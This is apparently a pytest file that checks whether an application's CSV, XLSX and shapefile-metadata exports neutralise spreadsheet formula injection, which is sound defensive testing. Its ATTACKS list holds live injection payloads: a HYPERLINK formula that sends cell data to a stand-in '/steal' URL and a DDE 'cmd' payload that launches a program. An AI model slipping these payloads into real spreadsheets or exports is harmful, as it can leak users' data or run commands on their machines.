"""Formula injection (hostile sources, written here): text that a spreadsheet would run comes
back from every CSV and XLSX export as inert text, in the data and the metadata alike."""

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from atlas.analysis.layers import build_layers
from atlas.intake.importer import import_counts
from atlas.io.export import product_bytes, write_product
from atlas.io.products import counts_product
from tests.conftest import write_text

ATTACKS = ['=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]


@pytest.fixture(params=ATTACKS)
def hostile(request, mirror, tmp_path, monkeypatch):
    monkeypatch.setenv("ATLAS_DATASETS_DIR", str(tmp_path / "datasets"))
    counts = write_text(tmp_path / "c.csv", "kode;pelaku_usaha;pekerja\n33.75.02.1004;1;2\n")
    import_counts(counts, 2030, request.param, region="kota")
    return request.param, counts_product(build_layers("kota", year=2030))


def test_csv_cells_are_inert(hostile, tmp_path):
    attack, product = hostile
    for style in ("id", "intl"):
        path = write_product(product, "desa", "csv", tmp_path / f"d_{style}.csv", csv_style=style)
        cells = [
            c
            for row in csv.reader(
                path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";" if style == "id" else ","
            )
            for c in row
        ]
        assert "'" + attack in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_xlsx_cells_are_text_never_formulas(hostile, tmp_path):
    attack, product = hostile
    path = write_product(product, "desa", "xlsx", tmp_path / "d.xlsx")
    book = load_workbook(path)  # not data_only: a formula would show as one
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert "'" + attack in texts or any(isinstance(t, str) and t.endswith(attack) and t.startswith("'") for t in texts)


def test_shapefile_zip_metadata_is_inert(hostile, tmp_path):
    attack, product = hostile
    data = product_bytes(product, "desa", "shp")
    (tmp_path / "s.zip").write_bytes(data)
    with zipfile.ZipFile(tmp_path / "s.zip") as archive:
        rows = list(csv.reader(archive.read("metadata.csv").decode("utf-8").splitlines()))
    values = dict(rows[1:])
    assert values["sumber_data"] == "'" + attack
